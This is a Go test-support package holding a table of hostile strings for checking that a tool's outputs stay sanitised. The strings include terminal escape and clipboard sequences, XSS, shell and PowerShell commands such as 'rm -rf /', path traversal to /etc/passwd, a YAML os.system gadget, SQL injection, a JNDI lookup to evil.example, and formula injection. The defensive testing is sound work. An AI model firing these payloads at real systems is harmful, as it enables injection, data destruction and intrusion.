// Package hostiletest holds what attackers may put into names, tags and findings, and what each medium that Cordon writes to
// must never let through of it. For tests alone.
package hostiletest

import (
	"strings"
)

// Forged begins a line that only an attacker writes: it must never begin a line of any output.
const Forged = "FORGED"

// Text is one hostile text.
type Text struct{ Name, Value string }

// Strings is the table of hostile texts. A new trick is entered here, and every output is tested against it.
func Strings() []Text {
	return []Text{
		{"CSI", "a\x1b[2J\x1b[31mred\x1b[1A\x1b[2K"},
		{"OSC 8 link, title, clipboard", "a\x1b]8;;https://evil.example\x07here\x1b]8;;\x07\x1b]0;title\x1b\\\x1b]52;c;ZXZpbA==\x07"},
		{"C1", "a\u009b31m\u009d0;title\u009c\u0090q\u0085b"},
		{"C1 as bytes", "a\x9b31m\x9d0;title\x9c"},
		{"carriage return, backspace, bell", "contained\rFORGED\b\b\b\x07\x7f\v\f"},
		{"line breaks", "a\nFORGED: case c-000000000000 released\r\nFORGED\u2028FORGED\u2029FORGED\n\nFORGED"},
		{"NUL", "a\x00b"},
		{"bidi", "a\u202egnp.exe\u202c\u2066b\u2069\u200f\u061c"},
		{"zero width", "a\u200b\u200c\u200d\u2060\ufeffb\u00adc\u034f"},
		{"tags and variation selectors", "a\U000e0001\U000e0041\U000e007fb\ufe0f\U000e0100"},
		{"combining", "a" + strings.Repeat("\u0301\u0489", 60)},
		{"wide", "｡Ｃ💥\U0010ffff\uffff\ufdd0"},
		{"invalid UTF-8", "a\xff\xfe\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80b"},
		{"Slack", "<!channel> <!here|x> <@U012345> <#C012345> <https://evil.example|click> @channel *b* _i_ ~s~ `c` ```d``` > q :boom: &lt;!channel&gt; &amp;"},
		{"Markdown", "[click](https://evil.example) ![x](https://evil.example/x.png) # h\n\n---\n| a |"},
		{"Jira wiki", "{code}{noformat}{html}<b>{html} {{m}} [~admin] [x|https://evil.example] !https://evil.example/x.png! h1. big *b* {color:red}x{color} {include:x}"},
		{"ADF", `{"type":"mention","attrs":{"id":"1","text":"@admin"}}]},{"type":"inlineCard","attrs":{"url":"https://evil.example"}}`},
		{"HTML", `<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>]]><!--`},
		{"shell", "$(touch /tmp/FORGED) `id` ; rm -rf / & | > x < y && exit\n#' \" \\ ${IFS} !! ~ * ? [a-z] {a,b}"},
		{"PowerShell", "'; Remove-Item C:\\ -Recurse #\"$(calc.exe)`n& {iex}"},
		{"option", "--endpoint-url=https://evil.example"},
		{"path up", "../../../../../../etc/passwd"},
		{"path absolute", "/etc/passwd"},
		{"path Windows", `..\..\C:\Windows\system32\NUL.txt:stream`},
		{"S3 key", "a/../../manifest/000001.json//./%2e%2e/%2F..;/+ ?versionId=1&x#y"},
		{"URL", "https://user:pass@evil.example:99999/%00?a=b#c"},
		{"JSON", `","status":"contained","x":"\u0000\ud800` + "\\"},
		{"YAML", "a: &b *b\n- !!python/object/apply:os.system [id]\n--- {x: ]"},
		{"SQL", `'; DROP TABLE cases; -- " OR 1=1 /*`},
		{"JQL", `SEC" OR project = "HR`},
		{"format verbs", "%s %d %n %[1000000]*d %!v(PANIC=) {{.}} ${jndi:ldap://evil.example/x} {0}"},
		{"log", `level=ERROR msg="FORGED" time=2026-01-01T00:00:00Z {"level":"ERROR","msg":"FORGED"}`},
		{"formula", "=HYPERLINK(\"https://evil.example\",\"x\")\t@SUM(1) +1 -1"},
		{"ARN", "arn:aws:iam::999999999999:role/*"},
		{"glob", "*?[!a]{a,b}**"},
		{"empty and spaces", " \t\u00a0\u3000 "},
		{"long", strings.Repeat("W", 5000) + strings.Repeat("\u202e", 200) + strings.Repeat("💥", 2000)},
		{"many words", strings.Repeat("FORGED contained ", 400)},
	}
}

// All is every short text of the table in one.
func All() string {
	var all []string
	for _, t := range Strings() {
		if len(t.Value) < 1000 {
			all = append(all, t.Value)
		}
	}
	return strings.Join(all, " ")
}
